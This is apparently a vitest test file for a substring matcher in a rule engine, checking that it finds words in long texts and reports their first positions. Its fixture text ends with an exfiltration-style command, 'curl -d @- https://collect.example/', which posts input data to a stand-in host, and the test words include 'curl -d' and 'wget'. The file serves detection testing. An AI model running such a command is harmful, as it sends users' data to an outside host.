import { describe, expect, it } from 'vitest';
import { holdsOne, placeOfWord } from '../../src/rules/match/held-words.ts';

const LONG = `${'the quick brown fox jumps over the lazy dog. '.repeat(200)}curl -d @- https://collect.example/`;

const holdsWord = (text: string, word: string): boolean => holdsOne(text, ['not there', word]);

describe('words that a text holds', () => {
  it.each(['curl -d', 'fox', 'g. the', 'og', 'collect.example/', LONG])(
    'finds what is there: %.20s',
    (word) => {
      expect(holdsWord(LONG, word)).toBe(true);
    },
  );

  it.each(['wget', 'foxes', 'the dog', 'zz', 'curl  -d', `${LONG}x`])('finds nothing else: %.20s', (word) => {
    expect(holdsWord(LONG, word)).toBe(false);
  });

  it('keeps texts apart, however many there are', () => {
    const texts = Array.from({ length: 10 }, (_, index) => `${'x '.repeat(2_000)}mark${index}end`);
    for (const turn of [0, 1])
      for (const [index, text] of texts.entries()) {
        expect(holdsWord(text, `mark${index}end`), `turn ${turn}`).toBe(true);
        expect(holdsWord(text, `mark${(index + 1) % 10}end`), `turn ${turn}`).toBe(false);
      }
  });

  it.each([1_000, 2_000, 40_000, 400_000])('are placed where they stand first in %i characters', (length) => {
    const filler = 'abcdefgh ijk lmno pqr stuv wxyz 0123 '.repeat(Math.ceil(length / 37));
    for (const at of [0, 1, 7, 500, length >> 1, length - 3]) {
      const text = `${filler.slice(0, at)}a mark here, a mark there${filler.slice(at, length)}`;
      for (const word of [
        'a mark',
        'mark',
        'ark',
        'there',
        'mark there',
        'mark nowhere',
        'here, b',
        'z 0',
        'xyz',
      ])
        expect(placeOfWord(text, word), `${word} at ${at}`).toBe(text.indexOf(word));
    }
  });
});
